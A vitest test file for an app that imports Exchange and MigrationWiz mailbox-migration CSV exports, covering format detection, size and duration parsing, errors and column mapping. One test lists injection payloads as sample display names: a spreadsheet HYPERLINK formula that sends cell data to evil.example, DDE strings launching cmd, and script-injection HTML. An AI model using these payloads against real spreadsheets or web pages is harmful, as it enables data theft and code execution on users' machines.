import { describe, expect, test } from 'vitest'
import {
  MAX_LISTED_ISSUES,
  parseMailboxExport,
  parseMailboxExportWithMapping
} from '../../../src-renderer/lib/domain/mailboxes/import'
import * as formats from '../../../src-renderer/lib/domain/mailboxes/formats'
import * as importer from '../../../src-renderer/lib/domain/mailboxes/import'
import { utf16Bytes, utf8Bytes } from '../../support/mailbox-fixtures'

const GB = 1024 ** 3

describe('recognised exports', () => {
  test('Get-MoveRequestStatistics, wide (Posh365 layout, sizes stripped to "x GB")', () => {
    const csv = [
      '"Identity","Status","BatchName","DisplayName","PercentComplete","OverallDuration","TotalFailedDuration","BadItemLimit","BadItemsEncountered","TotalMailboxSize","ItemsTransferred","StatusDetail","RecipientTypeDetails","ExchangeGuid"',
      '"bob.kelly","AutoSuspended","Wave 03","Kelly, Bob","95","03 days 04:05","00 days 00:00","10","0","1.234 GB ","48211","AutoSuspended","UserMailbox","2f1e…"',
      '"ann.lee","InProgress","Wave 03","Ann Lee","47","00 days 11:40","00 days 00:12","10","2","980 MB ","1200","StalledDueToTarget_MdbAvailability","SharedMailbox","9a3c…"',
      '"info","Failed","Wave 04","Info","12","01 days 00:00","00 days 05:00","10","11","0 B ","0","FailedBadItemLimit","SharedMailbox","77aa…"'
    ].join('\r\n')
    const result = parseMailboxExport(csv)
    expect(result.format).toBe('move-request-statistics')
    expect(result.formatLabel).toBe('Get-MoveRequestStatistics export')
    expect(result.errors).toEqual([])
    expect(result.warnings).toEqual([])
    expect(result.rows).toEqual([
      {
        line: 2,
        identity: 'bob.kelly',
        rawStatus: 'AutoSuspended',
        batchName: 'Wave 03',
        displayName: 'Kelly, Bob',
        percentComplete: 95,
        durationSeconds: 3 * 86400 + 4 * 3600 + 5 * 60,
        sizeBytes: Math.round(1.234 * GB),
        statusDetail: 'AutoSuspended',
        recipientType: 'UserMailbox',
        lifecycle: 'synced'
      },
      {
        line: 3,
        identity: 'ann.lee',
        rawStatus: 'InProgress',
        batchName: 'Wave 03',
        displayName: 'Ann Lee',
        percentComplete: 47,
        durationSeconds: 11 * 3600 + 40 * 60,
        sizeBytes: 980 * 1024 ** 2,
        statusDetail: 'StalledDueToTarget_MdbAvailability',
        recipientType: 'SharedMailbox',
        lifecycle: 'syncing'
      },
      {
        line: 4,
        identity: 'info',
        rawStatus: 'Failed',
        batchName: 'Wave 04',
        displayName: 'Info',
        percentComplete: 12,
        durationSeconds: 86400,
        sizeBytes: 0,
        statusDetail: 'FailedBadItemLimit',
        recipientType: 'SharedMailbox',
        lifecycle: 'failed'
      }
    ])
  })

  test('Get-MoveRequestStatistics one-liner re-saved by European Excel (semicolons, Windows-1252 style sizes)', () => {
    const csv =
      'DisplayName;StatusDetail;TotalMailboxSize;PercentComplete\r\n' +
      'Müller, Jürgen;CopyingMessages;1,5 GB (1.610.612.736 bytes);47\r\n' +
      'Zoë Lefèvre;Completed;12,5 GB (13.421.772.800 bytes);100%\r\n'
    const result = parseMailboxExport(csv)
    expect(result.delimiter).toBe(';')
    expect(result.format).toBe('move-request-statistics')
    expect(result.rows).toEqual([
      {
        line: 2,
        displayName: 'Müller, Jürgen',
        statusDetail: 'CopyingMessages',
        sizeBytes: 1_610_612_736,
        percentComplete: 47,
        lifecycle: 'syncing'
      },
      {
        line: 3,
        displayName: 'Zoë Lefèvre',
        statusDetail: 'Completed',
        sizeBytes: 13_421_772_800,
        percentComplete: 100,
        lifecycle: 'completed'
      }
    ])
  })

  test('Get-MigrationUser: the Identity address becomes the primary address', () => {
    const csv = [
      '"Identity","BatchId","MailboxEmailAddress","RecipientType","SkippedItemCount","SyncedItemCount","Status","StatusSummary","LastSuccessfulSyncTime","ErrorSummary"',
      '"Bob.Kelly@contoso.com","Wave 03","Bob.Kelly@contoso.com","UserMailbox","0","48211","Synced","Synced","3/14/2025 9:26:41 PM",""',
      '"ann.lee@contoso.com","Wave 03","","UserMailbox","3","1200","IncrementalFailed","Failed","3/13/2025 1:02:00 AM","Error: TooManyTransientFailureRetriesPermanentException"',
      '"lee.gu@contoso.com","Wave 04","lee.gu@contoso.com","UserMailbox","0","0","CompletionSynced","Synced","",""'
    ].join('\r\n')
    const result = parseMailboxExport(csv)
    expect(result.format).toBe('migration-user')
    expect(result.errors).toEqual([])
    expect(result.rows).toEqual([
      {
        line: 2,
        identity: 'Bob.Kelly@contoso.com',
        batchName: 'Wave 03',
        primarySmtpAddress: 'bob.kelly@contoso.com',
        recipientType: 'UserMailbox',
        rawStatus: 'Synced',
        lifecycle: 'synced'
      },
      {
        line: 3,
        identity: 'ann.lee@contoso.com',
        batchName: 'Wave 03',
        primarySmtpAddress: 'ann.lee@contoso.com',
        recipientType: 'UserMailbox',
        rawStatus: 'IncrementalFailed',
        lifecycle: 'failed'
      },
      {
        line: 4,
        identity: 'lee.gu@contoso.com',
        batchName: 'Wave 04',
        primarySmtpAddress: 'lee.gu@contoso.com',
        recipientType: 'UserMailbox',
        rawStatus: 'CompletionSynced',
        lifecycle: 'synced'
      }
    ])
  })

  test('New-MigrationBatch input: one EmailAddress column', () => {
    const result = parseMailboxExport(
      'EmailAddress\r\nbob.kelly@contoso.com\r\nAnn.Lee@Contoso.com\r\n'
    )
    expect(result.format).toBe('migration-batch')
    expect(result.rows).toEqual([
      { line: 2, primarySmtpAddress: 'bob.kelly@contoso.com' },
      { line: 3, primarySmtpAddress: 'ann.lee@contoso.com' }
    ])
  })

  test('wave-planning sheet (Posh365 Batches.csv): batch, date, GB size and IsMigrated', () => {
    const csv = [
      'BatchName,DisplayName,OrganizationalUnit,IsMigrated,CompleteBatchDate,CompleteBatchTimePT,LicenseGroup,EnableArchive,ConvertToShared,MailboxGB,ArchiveGB,DeletedGB,TotalGB,LastLogonTime,ItemCount,UserPrincipalName,PrimarySmtpAddress,Alias,RecipientTypeDetails',
      'Wave 01,"Kelly, Bob",contoso.local/Sales,FALSE,2025-04-12,20:00,E3,TRUE,FALSE,10.5,2,0.5,13,2025-03-01 08:12,48211,bob.kelly@contoso.com,Bob.Kelly@contoso.com,bob.kelly,UserMailbox',
      'Wave 01,Info,contoso.local/Shared,TRUE,2025-04-12,20:00,,FALSE,TRUE,1,0,0,1,,900,info@contoso.com,info@contoso.com,info,SharedMailbox'
    ].join('\r\n')
    const result = parseMailboxExport(csv)
    expect(result.format).toBe('wave-plan')
    expect(result.errors).toEqual([])
    expect(result.rows).toEqual([
      {
        line: 2,
        batchName: 'Wave 01',
        displayName: 'Kelly, Bob',
        completeBatchDate: '2025-04-12',
        userPrincipalName: 'bob.kelly@contoso.com',
        primarySmtpAddress: 'bob.kelly@contoso.com',
        alias: 'bob.kelly',
        recipientType: 'UserMailbox',
        sizeBytes: 13 * GB,
        lifecycle: 'not-started'
      },
      {
        line: 3,
        batchName: 'Wave 01',
        displayName: 'Info',
        completeBatchDate: '2025-04-12',
        userPrincipalName: 'info@contoso.com',
        primarySmtpAddress: 'info@contoso.com',
        alias: 'info',
        recipientType: 'SharedMailbox',
        sizeBytes: 1 * GB,
        lifecycle: 'completed'
      }
    ])
  })

  test('Get-Mailbox inventory from Windows PowerShell 5.1 (#TYPE line, AD path identities)', () => {
    const csv = [
      '#TYPE Selected.Microsoft.Exchange.Data.Directory.Management.Mailbox',
      '"Identity","UserPrincipalName","PrimarySmtpAddress","RecipientTypeDetails"',
      '"contoso.local/Users/Bob Kelly","bob.kelly@contoso.com","Bob.Kelly@Contoso.com","UserMailbox"',
      '"contoso.local/Users/Info","info@contoso.com","info@contoso.com","SharedMailbox"'
    ].join('\r\n')
    const result = parseMailboxExport(csv)
    expect(result.format).toBe('mailbox')
    expect(result.rows).toEqual([
      {
        line: 3,
        identity: 'contoso.local/Users/Bob Kelly',
        userPrincipalName: 'bob.kelly@contoso.com',
        primarySmtpAddress: 'bob.kelly@contoso.com',
        recipientType: 'UserMailbox'
      },
      {
        line: 4,
        identity: 'contoso.local/Users/Info',
        userPrincipalName: 'info@contoso.com',
        primarySmtpAddress: 'info@contoso.com',
        recipientType: 'SharedMailbox'
      }
    ])
  })

  test('Get-Mailbox inventory with a multi-valued EmailAddresses cell', () => {
    const csv =
      'DisplayName,ServerName,PrimarySmtpAddress,EmailAddresses\r\n' +
      'Bob Kelly,EX01,bob@contoso.com,"SMTP:bob@contoso.com smtp:bob@contoso.mail.onmicrosoft.com X500:/o=ExchangeLabs/ou=…"\r\n'
    expect(parseMailboxExport(csv).rows).toEqual([
      { line: 2, displayName: 'Bob Kelly', primarySmtpAddress: 'bob@contoso.com' }
    ])
  })

  test('Get-RemoteMailbox inventory: remote mailboxes are in the cloud', () => {
    const csv = [
      'DisplayName,Alias,PrimarySmtpAddress,RemoteRoutingAddress,RecipientTypeDetails',
      '"Kelly, Bob",bob.kelly,bob.kelly@contoso.com,SMTP:Bob.Kelly@contoso.mail.onmicrosoft.com,RemoteUserMailbox',
      'Info,info,info@contoso.com,,RemoteSharedMailbox'
    ].join('\n')
    const result = parseMailboxExport(csv)
    expect(result.format).toBe('remote-mailbox')
    expect(result.rows).toEqual([
      {
        line: 2,
        displayName: 'Kelly, Bob',
        alias: 'bob.kelly',
        primarySmtpAddress: 'bob.kelly@contoso.com',
        remoteRoutingAddress: 'bob.kelly@contoso.mail.onmicrosoft.com',
        recipientType: 'RemoteUserMailbox',
        location: 'cloud'
      },
      {
        line: 3,
        displayName: 'Info',
        alias: 'info',
        primarySmtpAddress: 'info@contoso.com',
        recipientType: 'RemoteSharedMailbox',
        location: 'cloud'
      }
    ])
  })

  test('MigrationWiz statistics (Posh365 SDK export): source and target addresses', () => {
    const csv = [
      'Source,Target,SinceCreated,SinceLastStart,CurrentlyExported,CurrentlyImported,ExportDuration,ImportDuration,CreateDateLocal',
      'Bob@contoso.com,bob@contoso.onmicrosoft.com,12d 03h 10m,0d 05h 02m,Inbox,Inbox,02:10:00,02:40:00,3/1/2025 8:00:00 AM'
    ].join('\r\n')
    const result = parseMailboxExport(csv)
    expect(result.format).toBe('migrationwiz')
    expect(result.rows).toEqual([
      {
        line: 2,
        primarySmtpAddress: 'bob@contoso.com',
        targetAddress: 'bob@contoso.onmicrosoft.com'
      }
    ])
  })

  test('MigrationWiz migration passes: pass status onto the lifecycle', () => {
    const csv = [
      'Source,Target,Type,Status,FolderFilter,ItemTypes,StartDate,CompleteDate,FailureMessage',
      'bob@contoso.com,bob@contoso.onmicrosoft.com,Full,Completed,,Mail,3/1/2025,3/2/2025,',
      'ann@contoso.com,ann@contoso.onmicrosoft.com,Full,Failed,,Mail,3/1/2025,,"Your migration failed while checking destination credentials."'
    ].join('\r\n')
    expect(parseMailboxExport(csv).rows.map((r) => [r.rawStatus, r.lifecycle])).toEqual([
      ['Completed', 'completed'],
      ['Failed', 'failed']
    ])
  })
})

describe('PowerShell session columns', () => {
  test('are ignored and left out of the headers', () => {
    const csv =
      '"DisplayName","PrimarySmtpAddress","PSComputerName","RunspaceId","PSShowComputerName"\r\n' +
      '"Bob","bob@contoso.com","outlook.office365.com","6f1c2d3e-8a4b-4c5d-9e6f-7a8b9c0d1e2f","False"\r\n'
    const result = parseMailboxExport(csv)
    expect(result.headers).toEqual(['DisplayName', 'PrimarySmtpAddress'])
    expect(result.rows).toEqual([
      { line: 2, displayName: 'Bob', primarySmtpAddress: 'bob@contoso.com' }
    ])
  })
})

describe('text comes through verbatim', () => {
  test('formula and HTML payloads are neither neutralised nor escaped on import', () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '<img src=x onerror=alert(1)>',
      '</script><script>alert(1)</script>',
      'Tom &amp; "Jerry"'
    ]
    const csv =
      'Alias,DisplayName\r\n' +
      payloads.map((p, i) => `a${i},"${p.replace(/"/g, '""')}"`).join('\r\n')
    const result = parseMailboxExport(csv)
    expect(result.errors).toEqual([])
    expect(result.rows.map((r) => r.displayName)).toEqual(payloads)
  })

  test('a multi-line display name keeps its inner line break; a 10,000-character name is kept whole', () => {
    const long = 'N'.repeat(10_000)
    const csv = `Alias,DisplayName\n a ,"First\nSecond"\nb,${long}\n`
    expect(parseMailboxExport(csv).rows).toEqual([
      { line: 2, alias: 'a', displayName: 'First\nSecond' },
      { line: 4, alias: 'b', displayName: long }
    ])
  })

  test('null-like cells are empty', () => {
    const csv =
      'Alias,DisplayName,BatchName,PercentComplete\nbob,N/A,(null),-\nann,Ann,$null,null\n'
    expect(parseMailboxExport(csv).rows).toEqual([
      { line: 2, alias: 'bob' },
      { line: 3, alias: 'ann', displayName: 'Ann' }
    ])
  })
})

describe('errors and warnings', () => {
  test('an invalid address is a row error naming the line, counted after multi-line fields', () => {
    const csv = [
      '#TYPE System.Management.Automation.PSCustomObject',
      '"DisplayName","PrimarySmtpAddress","Notes"',
      '"Ann","ann@contoso.com","line one',
      'line two',
      'line three"',
      '"Bob","bob@","x"',
      '"Cy","cy@contoso.com",""'
    ].join('\r\n')
    const result = parseMailboxExport(csv)
    expect(result.errors).toEqual([
      { line: 6, message: 'line 6: “bob@” in PrimarySmtpAddress is not an e-mail address' }
    ])
    expect(result.rows.map((r) => [r.line, r.primarySmtpAddress])).toEqual([
      [3, 'ann@contoso.com'],
      [7, 'cy@contoso.com']
    ])
  })

  test('a row with no address, alias or display name is an error', () => {
    const csv = 'DisplayName,PrimarySmtpAddress,Status\nBob,bob@contoso.com,Queued\n,,Queued\n'
    const result = parseMailboxExport(csv)
    expect(result.errors).toEqual([
      { line: 3, message: 'line 3: the row has no address, alias or display name' }
    ])
    expect(result.rows).toHaveLength(1)
  })

  test('a repeated address (differing only in case) keeps the first row', () => {
    const csv =
      'PrimarySmtpAddress,DisplayName\nbob@contoso.com,Bob\nann@contoso.com,Ann\nBOB@Contoso.com,Bob again\n'
    const result = parseMailboxExport(csv)
    expect(result.errors).toEqual([
      { line: 4, message: 'line 4: bob@contoso.com is already on line 2; this row is left out' }
    ])
    expect(result.rows.map((r) => r.displayName)).toEqual(['Bob', 'Ann'])
  })

  test('unreadable values are warnings; the row is kept without them', () => {
    const csv = 'DisplayName,TotalMailboxSize,PercentComplete,OverallDuration\nBob,huge,150,soon\n'
    const result = parseMailboxExport(csv)
    expect(result.errors).toEqual([])
    expect(result.rows).toEqual([{ line: 2, displayName: 'Bob' }])
    expect(result.warnings).toEqual([
      { line: 2, message: 'line 2: “huge” in TotalMailboxSize is not a size; it is left empty' },
      {
        line: 2,
        message:
          'line 2: “150” in PercentComplete is not a percentage from 0 to 100; it is left empty'
      },
      { line: 2, message: 'line 2: “soon” in OverallDuration is not a duration; it is left empty' }
    ])
  })

  test('an unknown status is one warning with its first line and row count', () => {
    const csv = 'DisplayName,Status,StatusDetail\nA,Weird,\nB,Queued,\nC,Weird,\nD,,Odd\n'
    const result = parseMailboxExport(csv)
    expect(result.rows.map((r) => [r.rawStatus, r.lifecycle])).toEqual([
      ['Weird', undefined],
      ['Queued', 'queued'],
      ['Weird', undefined],
      [undefined, undefined]
    ])
    expect(result.warnings).toEqual([
      {
        line: 2,
        message:
          'line 2: the status “Weird” is not recognised (2 rows); the lifecycle is left empty'
      },
      {
        line: 5,
        message: 'line 5: the status “Odd” is not recognised; the lifecycle is left empty'
      }
    ])
  })

  test('CSV structure errors come through with their lines', () => {
    const csv = 'Alias,DisplayName\nbob,Bob\nann,Ann,extra\ncy,"Cy\n'
    const result = parseMailboxExport(csv)
    expect(result.errors).toEqual([
      { line: 3, message: 'line 3: 3 fields but the header has 2 columns (comma-separated)' },
      {
        line: 4,
        message: 'line 4: a quoted field starts here but its closing quote (") is missing'
      }
    ])
    expect(result.rows).toEqual([{ line: 2, alias: 'bob', displayName: 'Bob' }])
  })

  test('duplicate headers: the first is read, a warning names the repeat', () => {
    const csv = 'Alias,DisplayName,Alias\nbob,Bob,other\n'
    const result = parseMailboxExport(csv)
    expect(result.headers).toEqual(['Alias', 'DisplayName', 'Alias (2)'])
    expect(result.rows).toEqual([{ line: 2, alias: 'bob', displayName: 'Bob' }])
    expect(result.warnings).toEqual([
      {
        line: 1,
        message:
          'line 1: the column “Alias” appears 2 times; the first one is read and the second is named “Alias (2)”'
      }
    ])
  })

  test('an empty file', () => {
    for (const input of ['', new Uint8Array(0), '\r\n\r\n', utf16Bytes('', 'le')]) {
      const result = parseMailboxExport(input)
      expect(result.rows).toEqual([])
      expect(result.errors).toEqual([
        { line: 0, message: 'The file is empty: it has no header line and no rows.' }
      ])
    }
  })

  test('a header-only file', () => {
    const result = parseMailboxExport('#TYPE Foo\r\n"PrimarySmtpAddress","DisplayName"\r\n')
    expect(result.format).toBe('mailbox')
    expect(result.rows).toEqual([])
    expect(result.errors).toEqual([
      { line: 2, message: 'line 2: the file has column headers but no mailbox rows' }
    ])
  })

  test('a file whose rows are all invalid has no rows, an error per row and a summary', () => {
    const result = parseMailboxExport('EmailAddress\nbob@\nnot an address\n')
    expect(result.rows).toEqual([])
    expect(result.errors).toEqual([
      { line: 2, message: 'line 2: “bob@” in EmailAddress is not an e-mail address' },
      { line: 3, message: 'line 3: “not an address” in EmailAddress is not an e-mail address' },
      { line: 0, message: 'None of the 2 rows could be imported.' }
    ])
  })

  test('long values are shortened in messages', () => {
    const bad = `${'x'.repeat(200)}@`
    const [error] = parseMailboxExport(`EmailAddress\n${bad}\n`).errors
    expect(error?.message).toBe(
      `line 2: “${'x'.repeat(79)}…” in EmailAddress is not an e-mail address`
    )
  })

  test(`at most ${MAX_LISTED_ISSUES} errors are listed, then a count of the rest`, () => {
    const rows = Array.from({ length: 1500 }, (_, i) => `user${i}@`)
    const result = parseMailboxExport(`EmailAddress\n${rows.join('\n')}\n`)
    expect(result.errors).toHaveLength(MAX_LISTED_ISSUES + 1)
    expect(result.errors[0]?.line).toBe(2)
    expect(result.errors[MAX_LISTED_ISSUES - 1]?.line).toBe(MAX_LISTED_ISSUES + 1)
    expect(result.errors[MAX_LISTED_ISSUES]).toEqual({
      line: 0,
      message: '…and 501 more errors not listed'
    })
  })
})

describe('unknown layouts and hand-made mappings', () => {
  const HR_EXPORT = utf8Bytes(
    'Employee;Mail;Office;Phase\r\nKelly, Bob;Bob@Contoso.com;Sydney;Done\r\nLee, Ann;ann@contoso.com;Oslo;Planned\r\n',
    true
  )

  test('an unknown layout reads no rows and offers headers and a suggested mapping', () => {
    const result = parseMailboxExport(HR_EXPORT)
    expect(result.format).toBe('unknown')
    expect(result.rows).toEqual([])
    expect(result.headers).toEqual(['Employee', 'Mail', 'Office', 'Phase'])
    expect(result.mapping).toEqual({
      Employee: 'ignore',
      Mail: 'primarySmtpAddress',
      Office: 'ignore',
      Phase: 'ignore'
    })
    expect(result.errors).toEqual([
      {
        line: 1,
        message:
          'line 1: the columns “Employee”, “Mail”, “Office”, “Phase” are not a known mailbox export; choose which column holds what'
      }
    ])
    expect(formats.headerSignature(result.headers)).toBe(
      'csv-columns:["employee","mail","office","phase"]'
    )
  })

  test('the mapping reads the file; names match ignoring case; unknown names are warned about', () => {
    const result = parseMailboxExportWithMapping(HR_EXPORT, {
      employee: 'displayName',
      Mail: 'primarySmtpAddress',
      Phase: 'status',
      Department: 'batchName'
    })
    expect(result.format).toBe('mapped')
    expect(result.encoding).toBe('utf-8')
    expect(result.errors).toEqual([])
    expect(result.warnings).toEqual([
      {
        line: 1,
        message: 'line 1: the mapping names the column “Department”, which this file does not have'
      }
    ])
    expect(result.rows).toEqual([
      {
        line: 2,
        displayName: 'Kelly, Bob',
        primarySmtpAddress: 'bob@contoso.com',
        rawStatus: 'Done',
        lifecycle: 'completed'
      },
      {
        line: 3,
        displayName: 'Lee, Ann',
        primarySmtpAddress: 'ann@contoso.com',
        rawStatus: 'Planned',
        lifecycle: 'not-started'
      }
    ])
  })

  test('two columns mapped to one field: the first non-empty value wins', () => {
    const csv = 'Work,Home\n,bob@home.example\nann@contoso.com,ann@home.example\n'
    const result = parseMailboxExportWithMapping(csv, {
      Work: 'primarySmtpAddress',
      Home: 'primarySmtpAddress'
    })
    expect(result.rows.map((r) => r.primarySmtpAddress)).toEqual([
      'bob@home.example',
      'ann@contoso.com'
    ])
  })

  test('a mapping without any identity column is refused before reading rows', () => {
    const result = parseMailboxExportWithMapping(HR_EXPORT, { Office: 'batchName' })
    expect(result.rows).toEqual([])
    expect(result.errors).toEqual([
      {
        line: 1,
        message:
          'line 1: no column is read as the address, alias, display name or identity, so rows cannot be told apart'
      }
    ])
  })
})

test('the import module also offers the helpers a mapping screen and worker need', () => {
  expect(importer.detectFormat).toBe(formats.detectFormat)
  expect(importer.suggestMapping).toBe(formats.suggestMapping)
  expect(importer.headerSignature).toBe(formats.headerSignature)
  expect(importer.MAILBOX_FIELDS).toBe(formats.MAILBOX_FIELDS)
  expect(importer.mapStatus('Synced')).toBe('synced')
  expect(importer.parseDuration('01:00:00')).toBe(3600)
})
